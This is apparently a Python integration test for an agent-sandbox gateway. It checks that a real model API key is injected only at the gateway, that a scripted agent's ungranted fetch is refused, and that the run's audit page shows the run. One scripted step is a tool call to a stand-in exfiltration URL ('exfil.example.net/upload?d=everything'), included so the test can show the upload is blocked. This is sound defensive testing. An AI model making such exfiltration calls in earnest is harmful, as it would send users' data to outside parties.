"""The reference agent (workers/agent) in a real box, against the scripted model over HTTPS, through the
real gateway and control plane: the model server receives the real key, which the box never holds; a
denied fetch reaches the model as a legible refusal; the run's timeline page shows the run."""

from __future__ import annotations

import json

import pytest
from django.contrib.auth import get_user_model

from controlplane.audit.models import AuditRecord, ModelTrace
from controlplane.dispatch import box as box_module
from controlplane.dispatch.running import run_dispatch
from controlplane.fleet.models import Run
from controlplane.fleet.services import run_create, worker_create
from controlplane.policy.models import Grant
from controlplane.vault.services import secret_set
from tests.integration.boxes.servers import upstream_server
from tools.scripted_model.script import script_parse
from tools.scripted_model.server import scripted_model_server

pytestmark = [pytest.mark.integration, pytest.mark.docker]

REAL_KEY = "sk-proj-" + "R3alK3y" * 7
DENIED_URL = "https://exfil.example.net/upload?d=everything"


def _script(allowed_url: str) -> dict:
    return {"model": "roster-scripted", "steps": [
        {"say": "Reading the notes first.", "tool": "fetch_url", "arguments": {"url": allowed_url}},
        {"tool": "fetch_url", "arguments": {"url": DENIED_URL}},
        {"tool": "propose", "arguments": {"kind": "webhook", "destination": "team-chat",
                                          "payload": {"text": "notes read"}}},
        {"say": "The notes say hello; the upload was refused by policy."},
    ]}


def test_agent_in_a_box_through_the_gateway(stack, settings, client, monkeypatch):
    worker = worker_create("agent-worker")
    secret = secret_set("model-key", REAL_KEY, kind="openai")
    created: list[dict] = []
    real_kwargs = box_module.box_create_kwargs

    def spy(*args, **kwargs):
        spec = real_kwargs(*args, **kwargs)
        created.append(spec)
        return spec

    monkeypatch.setattr(box_module, "box_create_kwargs", spy)
    leaf = stack.upstream_ca.leaf()
    with upstream_server(stack.upstream_ca) as (site_port, site), scripted_model_server(
            script_parse(_script(f"https://127.0.0.1:{site_port}/notes/today")), REAL_KEY,
            tls=leaf) as (model_port, model):
        Grant.objects.create(
            slug="agent-model", worker=worker, methods=["POST"], schemes=["https"], host="127.0.0.1",
            port=model_port, paths=["/v1/chat/completions"], secret=secret, inject_header="authorization",
            inject_format="Bearer {secret}", trace=True)
        Grant.objects.create(slug="agent-notes", worker=worker, methods=["GET"], schemes=["https"],
                             host="127.0.0.1", port=site_port, paths=["/notes/*"])
        settings.ROSTER_AGENT_BASE_URL = f"https://127.0.0.1:{model_port}/v1"
        settings.ROSTER_AGENT_MODEL = "roster-scripted"
        run, _ = run_create(worker, command=box_module.agent_command("Read today's notes and report."),
                            timeout_seconds=120)
        run_dispatch(run.pk)
    run.refresh_from_db()
    assert run.status == Run.Status.SUCCEEDED, (run.status_reason, run.output[-3000:])

    # The model server got the real key on every call (the gateway injected it), streamed.
    assert len(model.records) == 4 and all(r["authorized"] and r["stream"] for r in model.records)
    assert [r["path"] for r in site.requests] == ["/notes/today"]

    # The box never held it: its environment and mounts carry the sentinel; its output lacks the key.
    (spec,) = created
    env = spec["environment"]
    assert env["OPENAI_API_KEY"] == secret.sentinel != REAL_KEY
    assert REAL_KEY not in json.dumps(spec, default=str) and REAL_KEY not in run.output
    assert env["ROSTER_AGENT_BASE_URL"] == f"https://127.0.0.1:{model_port}/v1"
    assert not AuditRecord.objects.filter(body__contains=REAL_KEY).exists()
    assert not ModelTrace.objects.filter(body__contains=REAL_KEY.encode()).exists()

    # The transcript shows the denied fetch as a refusal, and the model saw it as its tool result.
    refusal = "REFUSED by the Roster gateway (HTTP 403 forbidden, reason no_grant)"
    assert f"tool call fetch_url {json.dumps({'url': DENIED_URL})}" in run.output
    # The box proposes to a destination nobody defined: refused by the control plane, nothing recorded.
    assert refusal in run.output and "proposal REFUSED (HTTP 404) no_destination" in run.output
    tool_results = [m["content"] for m in model.bodies[-1]["messages"] if m["role"] == "tool"]
    assert any(refusal in r for r in tool_results) and any("upstream says hello" in r for r in tool_results)
    assert "FINAL ANSWER:\nThe notes say hello; the upload was refused by policy." in run.output
    # The trusted side took the run's answer by the reference agent's rule; the input was assembled once.
    assert run.answer == "The notes say hello; the upload was refused by policy."
    assert run.input_assembled and not run.carries_conversation and run.input_sha256

    # Model inputs were traced byte-exactly; the timeline page shows the run, its decisions and output.
    assert ModelTrace.objects.filter(run_id_ref=run.pk).count() == 4
    client.force_login(get_user_model().objects.create_superuser("agent-admin", "a@example.org", "pw"))
    page = client.get(f"/runs/{run.pk}/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "agent-worker" in html and "exfil.example.net" in html and "no_grant" in html
    assert "FINAL ANSWER" in html
